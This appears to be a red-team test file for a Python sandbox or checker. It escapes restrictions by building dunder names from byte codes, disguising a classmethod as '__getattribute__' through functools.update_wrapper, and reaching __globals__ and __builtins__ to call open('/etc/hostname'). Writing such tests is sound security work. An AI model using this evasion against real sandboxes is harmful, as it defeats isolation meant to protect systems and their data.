# family: red team, round 36 (functools.update_wrapper copies __name__ from a parameter holding a NewType; copy.copy of the classmethod)
import copy
import functools
import typing


def spelled(codes):
    return bytes(codes).decode()


def dunder(word):
    return spelled([95, 95]) + word + spelled([95, 95])


def named_like(source):
    def apply(fn):
        functools.update_wrapper(fn, source)
        return fn

    return apply


class Box:
    @classmethod
    @named_like(typing.NewType(dunder("getattribute"), int))
    def lookup(cls):
        return 0


def main():
    fetch = copy.copy(Box.lookup)
    namespace = fetch(main, dunder("globals"))
    print(namespace["functools"])
    builtins = namespace[dunder("builtins")]
    print(fetch(builtins, "open")("/etc/hostname").read())


main()
